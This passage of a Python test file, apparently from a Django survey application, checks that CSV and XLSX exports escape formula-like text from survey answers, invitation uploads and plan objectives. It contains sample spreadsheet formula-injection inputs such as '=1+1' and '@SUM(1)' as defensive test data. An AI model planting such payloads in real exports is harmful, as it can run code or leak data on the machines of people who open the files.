    assert response["X-Content-Type-Options"] == "nosniff"
    if fmt == "csv":
        assert response["Content-Type"].startswith("text/csv")
        text = b"".join(response).decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    from openpyxl import load_workbook

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(b"".join(response)))
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
            rows.append([cell.value for cell in row])
    return rows


def _assert_no_formula(rows: list[list], where: str) -> int:
    """No text cell may start like a formula (a plain number such as -3 is a number, not text)."""
    checked = 0
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, str) and value:
                checked += 1
                if value.startswith(FORMULA_STARTS) and not NUMBER.match(value):
                    raise AssertionError(f"{where} row {r + 1} column {c + 1} could run: {value!r}")
    return checked


def _column(header: list, suffix: str) -> int:
    return next(i for i, h in enumerate(header) if str(h).endswith(suffix))


@pytest.mark.django_db
def test_exports_neutralise_formulas_and_keep_every_word(client, plan, settings, make_user):
    from boardpacks.services import board_pack_build
    from feedback.selectors import analysis_context_reset
    from feedback.services import redact_text, school_seed, theme_seed
    from portal.models import Objective
    from surveys import services as survey_services
    from surveys.models import Invitation, Response

    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r@SUM(1)") == "'\r@SUM(1)"
    settings.SURVEYS_RATE_LIMIT_COUNT = 10_000
    school_seed()
    theme_seed()
    analysis_context_reset()
    survey = survey_for_corpus()
    survey_answers(survey, PAYLOADS)
    # Staff upload invitations (names and references from a spreadsheet someone else made), and
    # each invited person answers through their link.
    upload = io.StringIO()
    writer = csv.writer(upload)
    writer.writerow(["email", "name", "reference"])
    for n, payload in enumerate(PAYLOADS[-40:]):  # (the upload refuses a file holding NULs)
        payload = payload.replace("\x00", "")
        writer.writerow([f"invited{n}@example.org", payload[:200], payload[:100]])
    result = survey_services.invitations_import_csv(survey=survey, data=upload.getvalue().encode())
    assert not result.errors, result.errors
    for invitation in Invitation.objects.filter(survey=survey):
        draft = survey_services.response_start(survey=survey, invitation=invitation)
        survey_services.response_save_answers(
            response=draft, values={"choice": "school", "comment": invitation.name}
        )
        survey_services.response_submit(response=draft)
    responses = {
        r.pk: r
        for r in Response.objects.filter(survey=survey, status="submitted").select_related("invitation")
    }
    sent = {norm(v) for r in responses.values() for k, v in r.answers.items() if isinstance(v, str)}
    assert {norm(p) for p in PAYLOADS} <= sent | {""}, "some payloads never reached the survey"
    hostile = 0
    for user, personal in (
        (make_user(Role.ENGAGEMENT_TEAM, totp=True), False),
        (make_user(Role.ADMINISTRATOR, totp=True), True),
    ):
        client.logout()  # the sign-in page sends someone already signed in to their home page
        sign_in(client, user)
        for fmt in ("csv", "xlsx"):
            rows = _download(client.get(f"/admin/survey-tools/{survey.pk}/export.{fmt}"), fmt)
            _assert_no_formula(rows, f"survey export ({fmt}, personal={personal})")
            header, body = rows[0], rows[1:]
            assert header[_column(header, "[comment]")] == "'@Anything else? [comment]"
            assert len(body) == len(responses)
            keys = {key: _column(header, f"[{key}]") for key in ("choice.other", "comment", "short")}
            for row in body:
                response = responses[int(row[0])]
                for key, col in keys.items():
                    stored = response.answers.get(key, "")
                    # Redacted for both: typed text needs feedback.view_original_text.
                    words = stored if not stored else redact_text(stored)
                    assert (row[col] or "") == safe_cell(words), (key, row[col], words)
                    hostile += words.startswith(FORMULA_STARTS)
                if personal:
                    name, reference = row[_column(header, "Invitation name")], row[-2]
                    invitation = response.invitation
                    assert (name or "") == safe_cell(invitation.name if invitation else "")
                    assert (reference or "") == safe_cell(invitation.reference if invitation else "")
    assert hostile >= 4 * 12, "too few formula-like answers reached the exports"

    # Board pack data: the survey chart's rows start with the survey's title.
    today = timezone.localdate()
    pack = board_pack_build(plan=plan, period_start=today.replace(day=1), period_end=today, notify=False)
    client.logout()
    sign_in(client, make_user(Role.BOARD_MEMBER, totp=True))
    labels = []
    for chart in pack.charts.all():
        for fmt in ("csv", "xlsx"):
            rows = _download(client.get(f"/board/packs/{pack.pk}/data/{chart.key}.{fmt}"), fmt)
            _assert_no_formula(rows, f"board pack chart {chart.key}.{fmt}")
            labels += [row[0] for row in rows]
    rows = _download(client.get(f"/board/packs/{pack.pk}/data.xlsx"), "xlsx")
    _assert_no_formula(rows, "board pack workbook")
    assert any(str(label).startswith("'" + SURVEY_TITLE + ": ") for label in labels)

    # /plan.csv after an editor pasted formulas into objectives (title and evidence references).
    formulas = [p for p in PAYLOADS if p.startswith(FORMULA_STARTS) and p == p.strip()]
    edited = list(Objective.objects.for_plan(plan).order_by("pk")[: len(formulas)])
    for objective, formula in zip(edited, formulas, strict=False):
        Objective.objects.filter(pk=objective.pk).update(title=formula, evidence=[formula, "=1+1"])
    client.logout()
    rows = _download(client.get("/plan.csv"), "csv")
    _assert_no_formula(rows, "/plan.csv")
    header = rows[0]
    by_code = {row[header.index("objective_code")]: row for row in rows[1:]}
    for objective, formula in zip(edited, formulas, strict=False):
        row = by_code[objective.code]
        assert row[header.index("objective")] == "'" + formula
        assert row[header.index("evidence")] == "'" + f"{formula} =1+1"
